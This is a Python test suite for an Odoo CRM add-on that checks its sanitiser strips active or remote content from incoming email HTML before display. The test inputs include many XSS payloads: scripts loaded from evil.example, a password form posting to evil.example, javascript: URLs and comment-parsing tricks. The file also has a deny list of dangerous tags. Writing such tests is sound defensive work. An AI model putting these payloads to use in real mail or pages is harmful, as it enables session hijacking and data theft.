"""A body is shown without anything that acts, and with nothing from outside."""

from lxml import html as lxml_html

from odoo.tests import tagged

from .common import MailCase

#: Elements that have no business in a body.
FORBIDDEN = {
    *("script", "iframe", "frame", "frameset", "object", "embed", "applet", "form"),
    *("input", "button", "textarea", "select", "style", "link", "meta", "base"),
    *("svg", "math", "title", "noscript", "template", "audio", "video", "source"),
}


class BodyCase(MailCase):
    def body_of(self, html, text="Text.", remote=False, **parts):
        """Return what `easycrm_body` gives for a mail with that HTML."""
        email = self.receive(self.mailbox, html=html, text=text, **parts)
        return self.as_user(email, self.mira).easycrm_body(remote)

    def parse_body(self, body):
        [element] = lxml_html.document_fromstring(str(body["document"])).xpath("//body")
        return element

    def show(self, html, remote=False, **parts):
        """Return the body element that a browser would be given."""
        return self.parse_body(self.body_of(html, remote=remote, **parts))


@tagged("post_install", "-at_install")
class TestSanitizing(BodyCase):
    def assertHarmless(self, element):
        for one in element.iter():
            if not isinstance(one.tag, str):
                self.fail("no comments: parsers disagree on where they end")
            self.assertNotIn(one.tag, FORBIDDEN)
            for name, value in one.attrib.items():
                self.assertFalse(name.startswith("on"), name)
                squeezed = "".join(value.split()).lower()
                self.assertNotRegex(squeezed, "^(javascript|vbscript|file|blob|ftp):")
                if name in ("href", "src"):
                    self.assertRegex(
                        squeezed, "^(https?://|mailto:|tel:|data:image/|/easycrm_mail/)"
                    )

    def test_nothing_that_acts_is_left(self):
        for html in (
            "<script>alert(1)</script>Hi",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>Hi",
            '<p onclick="alert(1)" ONMOUSEOVER="alert(1)">Hi</p>',
            '<img src="x" onerror="alert(1)">Hi',
            '<a href="javascript:alert(1)">Hi</a>',
            '<a href=" JaVa\tScRiPt:alert(1)">Hi</a>',
            '<a href="&#106;avascript&colon;alert(1)">Hi</a>',
            '<a href="\x01javascript:alert(1)">Hi</a>',
            '<a href="vbscript:x">Hi</a>',
            '<a href="data:text/html,<script>alert(1)</script>">Hi</a>',
            '<a href="file:///etc/passwd">Hi</a>',
            '<map><area href="javascript:alert(1)"><area href="/web"></map>Hi',
            '<iframe src="https://evil.example"></iframe>Hi',
            '<iframe srcdoc="<script>alert(1)</script>"></iframe>Hi',
            '<object data="x.swf"></object><embed src="x"></embed>Hi',
            '<applet code="x"></applet>Hi',
            '<form action="https://evil.example"><input name="password"></form>Hi',
            '<form><button formaction="javascript:alert(1)">Go</button></form>Hi',
            '<meta http-equiv="refresh" content="0;url=https://evil.example">Hi',
            '<base href="https://evil.example/">Hi',
            '<link rel="stylesheet" href="https://evil.example/x.css">Hi',
            "<style>body { background: url(https://evil.example) }</style>Hi",
            "<style>@import 'https://evil.example';</style>Hi",
            "<svg onload=alert(1)><script>alert(1)</script></svg>Hi",
            '<svg><image href="https://evil.example/x.png"/><use href="#a"/></svg>Hi',
            "<math><mtext><script>alert(1)</script></mtext></math>Hi",
            '<noscript><p title="</noscript><img src=x onerror=a()>">x</noscript>Hi',
            "<!-- <img src=x onerror=alert(1)> -->Hi",
            "<!--[if mso]><script>alert(1)</script><![endif]-->Hi",
            "<!--><img src=x onerror=alert(1)>-->Hi",
            "<!-- --!><img src=x onerror=alert(1)>-->Hi",
            "<template><script>alert(1)</script></template>Hi",
            '<video src="//evil.example/x" autoplay><source src="/web"></video>Hi',
            '<audio src="https://evil.example/x" autoplay></audio>Hi',
            '<p style="behavior:url(x.htc); -moz-binding:url(x)">Hi</p>',
            '<p style="width: expression(alert(1))">Hi</p>',
            "<scr<script>ipt>alert(1)</scr</script>ipt>Hi",
            "<div><p><b>Hi",
        ):
            with self.subTest(html=html):
                element = self.show(html)
                self.assertHarmless(element)
                self.assertIn("Hi", element.text_content())

    def test_no_image_takes_the_place_of_what_the_reader_asks_the_document_for(self):
        """In a browser, `document.body` is the image of that name, if there is one."""
        shown = self.show(
            '<p>Hi <img NAME="body" id="body" alt="x" src="cid:none">'
            '<img name="addEventListener"><map name="parts"></map>'
            '<a name="part-2">There</a></p>'
        )
        self.assertEqual(
            [(one.tag, one.get("name")) for one in shown.xpath("//*[@name]")],
            [("meta", "referrer"), ("map", "parts"), ("a", "part-2")],
        )
        self.assertEqual(len(shown.xpath(".//img")), 2)

    def test_the_document_keeps_itself_shut(self):
        document = str(self.body_of("<p>Hi</p>")["document"])
        head = lxml_html.document_fromstring(document).find("head")
        policy = head.find("meta[@http-equiv='Content-Security-Policy']").get("content")
        rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
        self.assertEqual(rules["default-src"], "'none'")
        sources = rules["img-src"].split()
        self.assertEqual(sources[0], "data:")
        self.assertEqual(len(sources), 2)
        self.assertTrue(sources[1].endswith("/easycrm_mail/attachment/"), sources)
        self.assertNotIn("script-src", rules)
        # nothing comes before it that it would not govern
        self.assertLess(document.index("Content-Security-Policy"), document.index("Hi"))
        self.assertIn('content="no-referrer"', document)
        self.assertIn('<base target="_blank">', document)
        document = str(self.body_of("<p>Hi</p>", remote=True)["document"])
        self.assertIn('img-src data:"', document, "no host was asked for")

    def test_links_open_elsewhere_and_tell_nothing(self):
        for href in ("https://acme.example/a?b=1", "mailto:a@x.example", "tel:+431"):
            link = self.show(f'<a href="{href}" target="_top" ping="/x">Hi</a>').find(
                ".//a"
            )
            self.assertEqual(link.get("href"), href)
            self.assertEqual(link.get("target"), "_blank")
            self.assertEqual(link.get("rel"), "noopener noreferrer nofollow")
            self.assertIsNone(link.get("ping"))
        for href in (
            "/web/session/logout",
            "web",
            "#top",
            "//acme.example",
            "?debug=1",
        ):
            link = self.show(f'<a href="{href}">Hi</a>').find(".//a")
            self.assertIsNone(link.get("href"))

    def test_the_field_is_as_clean_as_the_document(self):
        email = self.receive(
            self.mailbox,
            html='<p onclick="x">Hi<script>x</script><img src="//evil.example/x"></p>',
        )
        value = str(self.as_user(email, self.mira).body_html)
        self.assertIn("Hi", value)
        for word in ("onclick", "script", "evil"):
            self.assertNotIn(word, value)

    def test_what_is_broken_is_shown_somehow(self):
        for html in (
            "<",
            "<p",
            "<!DOCTYPE",
            "<p>\x00Hi",
            "]]>",
            "<?xml?>",
            "&#0;&#xD800;",
        ):
            with self.subTest(html=html):
                self.assertHarmless(self.show(html))


@tagged("post_install", "-at_install")
class TestTextAndQuotes(BodyCase):
    def quotes_of(self, body):
        return [
            quote.text_content().strip()
            for quote in self.parse_body(body).xpath(
                ".//*[@data-o-mail-quote][not(ancestor::*[@data-o-mail-quote])]"
            )
        ]

    def test_plain_text_is_escaped_with_its_lines_and_links(self):
        body = self.body_of(
            None, "a < b & <script>x</script>\nnext https://acme.example/x\n\nlast"
        )
        element = self.parse_body(body)
        self.assertIn("a < b & <script>x</script>", element.text_content())
        self.assertFalse(element.xpath(".//script"))
        [link] = element.xpath(".//a")
        self.assertEqual(link.get("href"), "https://acme.example/x")
        self.assertEqual(link.get("target"), "_blank")
        self.assertTrue(element.xpath(".//br"))
        self.assertEqual(len(element.xpath(".//p")), 2)
        self.assertFalse(body["has_quote"])

    def test_the_quote_of_plain_text_is_marked(self):
        body = self.body_of(None, "Yes.\n\n> When?\n> > Now?\n\nRegards")
        self.assertTrue(body["has_quote"])
        [quote] = self.quotes_of(body)
        self.assertIn("When?", quote)
        self.assertIn("Now?", quote)
        text = self.parse_body(body).text_content()
        self.assertIn("Yes.", text)
        self.assertIn("Regards", text)

    def test_the_quotes_of_mail_programs_are_marked(self):
        for name, html in {
            "gmail": '<div>Yes.</div><div class="gmail_quote">On Monday wrote:'
            "<blockquote>Old</blockquote></div>",
            "outlook": '<div>Yes.</div><div id="appendonsend"></div><hr>'
            '<div id="divRplyFwdMsg">From: X</div><div>Old</div>',
            "apple": '<div>Yes.<blockquote type="cite">Old</blockquote></div>',
            "yahoo": '<div>Yes.</div><div class="yahoo_quoted">Old</div>',
        }.items():
            with self.subTest(name=name):
                body = self.body_of(html)
                self.assertTrue(body["has_quote"])
                quotes = " ".join(self.quotes_of(body))
                self.assertIn("Old", quotes)
                self.assertNotIn("Yes.", quotes)

    def test_a_body_without_quote_has_none(self):
        for html in ("<p>Yes.</p>", "<p>data-o-mail-quote=1</p>"):
            body = self.body_of(html)
            self.assertFalse(body["has_quote"])
            self.assertEqual(self.quotes_of(body), [])
        self.assertFalse(self.body_of(None, "see data-o-mail-quote=1")["has_quote"])

    def test_html_that_shows_nothing_falls_back_to_the_text(self):
        for html in (
            " ",
            "<html><head><title>x</title></head><body></body></html>",
            "<script>x</script>",
            "<!-- nothing -->",
            "<div> </div><p>&nbsp;</p><br>",
        ):
            with self.subTest(html=html):
                element = self.show(html, text="The text.")
                self.assertIn("The text.", element.text_content())
        element = self.show('<img src="https://far.example/x.png">', text="The text.")
        self.assertNotIn("The text.", element.text_content())

    def test_of_html_that_a_parser_takes_minutes_for_the_text_is_shown(self):
        some, others = (
            " ".join(f"{name}{number}" for number in range(90)) for name in "xy"
        )
        for html in (
            "<div " + " ".join(f"a{number}" for number in range(1_000)) + ">HTML</div>",
            # (without what core takes out, that is one tag)
            f"<div {some} b='>' c='<o:p' > ' {others}>HTML</div>",
            f"<div {some} b='>' c='<i encoding=x> ' {others}>HTML</div>",
            f"<div {some} b='>' c='<<o:p>o:p' > ' {others}>HTML</div>",
            f"<div {some} b='>' c=\"<i style='{'-' * 3_000}'> \" {others}>HTML</div>",
        ):
            with self.subTest(html=html):
                element = self.show(html, text="The text.")
                self.assertEqual(element.text_content().strip(), "The text.")

    def test_html_of_mail_programs_is_shown(self):
        for html in (
            '<?xml version="1.0" encoding="UTF-8"?><p>HTML</p>',
            "<p class=MsoNormal>HTML<o:p></o:p></p><o:p>&nbsp;</o:p>",
            f"<p {' '.join(f'a{number}=1' for number in range(40))}>HTML</p>",
            "<p>HTML</p>\f<p\vid=1>And more</p>",
        ):
            with self.subTest(html=html):
                element = self.show(html, text="The text.")
                self.assertIn("HTML", element.text_content())

    def test_a_mail_of_nothing_shows_nothing(self):
        body = self.body_of(None, "")
        self.assertEqual(self.parse_body(body).text_content().strip(), "")
        self.assertFalse(body["has_quote"])
